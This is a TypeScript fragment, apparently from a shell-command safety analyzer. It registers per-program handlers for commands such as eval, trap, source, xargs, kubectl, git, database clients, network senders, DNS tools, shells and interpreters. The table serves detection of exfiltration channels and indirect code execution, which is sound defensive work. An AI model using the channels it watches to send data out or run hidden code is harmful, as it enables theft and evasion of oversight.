/** Per-program handlers, registered in this one place. */
export const HANDLERS: ReadonlyMap<string, Handler> = new Map<string, Handler>([
  ["cd", _cd],
  ...["export", "declare", "local", "readonly", "typeset"].map((n) => [n, _declare] as const),
  ...["unset", "read", "mapfile", "readarray", "getopts"].map((n) => [n, _unsetNames] as const),
  ["printf", _printfVar],
  ["eval", _eval],
  ["trap", _trap],
  ["alias", _alias],
  ["source", _source],
  [".", _source],
  ["find", (c) => _find(c.j, c.args, c.scope)],
  ["at", _at],
  ["batch", _at],
  ["xargs", _xargs],
  ["ln", (c) => {
    _recordLink(c.j, c.args, c.scope);
    _recordCopy(c);
  }],
  ["pushd", _pushd],
  ["popd", _popd],
  ["hash", _hash],
  ...["cp", "install", "mv"].map((n) => [n, _recordCopy] as const),
  ...Object.keys(DB_CLIENTS).map((n) => [n, _database] as const),
  ["kubectl", _kubectl],
  ["oc", _kubectl],
  ["git", _git],
  ...[...NETWORK_SENDERS].map((n) => [n, _sender] as const),
  ...[...DNS_TOOLS].map((n) => [n, _dns] as const),
  ...[...SHELLS].map((n) => [n, _shellHandler] as const),
  ...INTERPRETERS.map((n) => [n, _interpreterHandler] as const),
]);

/**
 * The handler of a program.
 *
 * @param name Program basename.
 * @returns Its handler (the wrapper handler when it has none of its own).
 */
export function handlerOf(name: string): Handler {
  return HANDLERS.get(name) ?? (INTERPRETER.test(name) ? _interpreterHandler : wrapperHandler);
}
